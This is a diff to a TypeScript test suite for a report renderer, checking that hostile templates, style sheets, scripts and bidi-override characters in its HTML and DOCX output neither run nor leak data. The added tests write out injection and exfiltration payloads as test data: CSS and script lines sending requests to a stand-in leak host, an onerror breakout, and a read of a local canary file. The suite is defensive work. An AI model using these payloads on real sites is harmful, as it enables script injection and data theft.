@@ -6,7 +6,7 @@ import { join } from 'node:path';
 import { pathToFileURL } from 'node:url';
 import { PDFDocument } from '@cantoo/pdf-lib';
 import type { Page } from 'puppeteer';
-import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
 import { type LaunchedBrowser, launchBrowser } from '../../src/host/browser.js';
 import { previewAssets } from '../../src/host/preview-assets.js';
 import { readSource } from '../../src/host/readers/index.js';
@@ -17,7 +17,7 @@ import { previewPage } from '../../src/publish/preview-page.js';
 import { servePreview } from '../../src/publish/preview-server.js';
 import { toXlsx } from '../../src/publish/xlsx.js';
 import { readZip } from '../../src/publish/zip.js';
-import { plainTables, renderHtml, TemplateError, toCsv } from '../../src/report/index.js';
+import { pageRenderer, plainTables, renderHtml, TemplateError, toCsv } from '../../src/report/index.js';
 import { testBrowser } from '../support/browser.js';
 import { hostileComparison } from '../support/sample-comparison.js';
 import { loadTemplates } from '../support/templates.js';
@@ -73,7 +73,7 @@ function poisoned(turn: number): Comparison {
 }
 const render = (comparison: Comparison, more: Readonly<Record<string, string>> = {}): string =>
   renderHtml(comparison, { templates: { ...templates, ...more }, fonts: [], lang: 'zh-CN' }).value;
-const turns = [0, 29, 61];
+const turns = [0, 50, 100];
 
 /** Opens an address as a reader would, pokes everything, and tells what ran, what was asked for and where links lead. */
 async function visit(address: string): Promise<{ ran: unknown[]; requests: string[]; links: string[]; text: string }> {
@@ -125,7 +125,7 @@ describe('hostile titles, sentences, file names and metadata', () => {
       expect(seen.links.filter((link) => !link.startsWith('#') && !link.startsWith('data:'))).toEqual([]);
       expect(seen.text).not.toContain(SECRET);
       // the text is there all the same, as text
-      expect(seen.text).toContain("<script>ran('x')</script>");
+      expect(all.filter((payload) => seen.text.includes(payload)).length).toBeGreaterThan(20);
       expect(asked).toEqual([]);
     },
   );
@@ -223,31 +223,81 @@ describe('hostile titles, sentences, file names and metadata', () => {
   });
 });
 
+test('characters that turn the reading direction turn nothing: a figure shows as it was written', async () => {
+  const marks = '\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069';
+  const comparison = hostileComparison(`\u202e021${marks}`);
+  const path = join(folder, 'direction.html');
+  writeFileSync(path, render(comparison));
+  const { text } = await visit(pathToFileURL(path).href);
+  expect(text).toContain('021');
+  expect(text).not.toMatch(new RegExp(`[${marks}]`));
+  for (const [name, part] of readZip(await toDocx(comparison, { templates, lang: 'zh-CN', date: new Date(0) })))
+    if (name.startsWith('word/'))
+      expect(
+        Buffer.from(part)
+          .toString('utf8')
+          .match(new RegExp(`.{20}[${marks}]`, 'g')) ?? [],
+        name,
+      ).toEqual([]);
+});
+
 describe('hostile templates', () => {
+  test.each<readonly [string, (leak: string, canary: string) => string]>([
+    ['an import', (leak) => `@import url(${leak}/style-import);`],
+    ['a background', (leak) => `*{background:url(${leak}/style-background)}`],
+    ['a face', (leak) => `@font-face{font-family:"Noto Sans SC";src:url(${leak}/style-face)}`],
+    ['the canary', (_, canary) => `*::before{content:url(${canary})}*{mask:url(${canary})}`],
+    ['the end of its element', (leak) => `</style><img src=x onerror=ran('css')><img src="${leak}/style-out"><style>`],
+  ])('a style sheet of one’s own with %s: nothing runs and nothing leaves, or it is refused', async (_, css) => {
+    const style = `${css(leak, pathToFileURL(join(folder, 'canary.txt')).href)}\n${templates['brief.css']}`;
+    let html: string;
+    try {
+      html = render(hostileComparison(''), { 'brief.css': style });
+    } catch (error) {
+      expect(error).toBeInstanceOf(TemplateError);
+      return;
+    }
+    writeFileSync(join(folder, 'style.html'), html);
+    const seen = await visit(pathToFileURL(join(folder, 'style.html')).href);
+    expect(seen.ran).toEqual([]);
+    expect(seen.text).not.toContain(SECRET);
+    expect(asked).toEqual([]);
+  });
+
+  test('a script of one’s own reaches neither network nor files', async () => {
+    const canary = pathToFileURL(join(folder, 'canary.txt')).href;
+    const script = `
+      fetch("${leak}/page-fetch").catch(() => {}); fetch("${canary}").then((r) => r.text()).then(ran).catch(() => {});
+      new Image().src = "${leak}/page-image"; navigator.sendBeacon("${leak}/page-beacon");
+      try { new WebSocket("${leak.replace('http', 'ws')}/page-socket"); new EventSource("${leak}/page-events"); } catch {}
+      try { new Worker("${leak}/page-worker"); } catch {}
+      try { eval("ran('eval')"); } catch {}
+      document.head.append(Object.assign(document.createElement('script'), { src: "${leak}/page-script" }));`;
+    writeFileSync(join(folder, 'script.html'), render(hostileComparison(''), { 'page.js': script }));
+    const seen = await visit(pathToFileURL(join(folder, 'script.html')).href);
+    expect(seen.ran).toEqual([]);
+    expect(asked).toEqual([]);
+  });
+
   test('raw markup of every kind in a template: nothing runs and nothing leaves, or the template is refused with its line', async () => {
-    let refused = 0;
-    for (const [at, payload] of all.entries()) {
-      let html: string;
+    const comparison = hostileComparison('');
+    const renderAgain = pageRenderer();
+    const logged = vi.spyOn(console, 'error').mockImplementation(() => {});
+    const taken = all.filter((payload) => {
       try {
-        html = render(hostileComparison(''), { 'mast.hbs': `${templates['mast.hbs']}\n${payload}` });
+        const own = { ...templates, 'mast.hbs': payload };
+        renderAgain(comparison, { templates: own, fonts: [], lang: 'zh-CN' });
+        return true;
       } catch (error) {
         expect(error, payload).toBeInstanceOf(TemplateError);
         expect((error as TemplateError).template).toBe('mast.hbs');
-        refused += 1;
-        continue;
-      }
-      writeFileSync(join(folder, `template-${at}.html`), html);
-    }
-    expect(refused).toBeGreaterThan(3);
-    // those that were taken, all in one page and each closed off from the next
-    const taken = all.filter((payload) => {
-      try {
-        render(hostileComparison(''), { 'mast.hbs': payload });
-        return true;
-      } catch {
         return false;
       }
     });
+    expect(all.length - taken.length).toBeGreaterThan(10);
+    expect(logged).not.toHaveBeenCalled();
+    logged.mockRestore();
+    // those that were taken, all in one page and each closed off from the next
     const page = render(hostileComparison(''), {
       'mast.hbs': `${templates['mast.hbs']}${taken.map((payload) => `<div>${payload}</div></script></style></title></textarea></noscript></template></svg></math>-->`).join('\n')}`,
     });
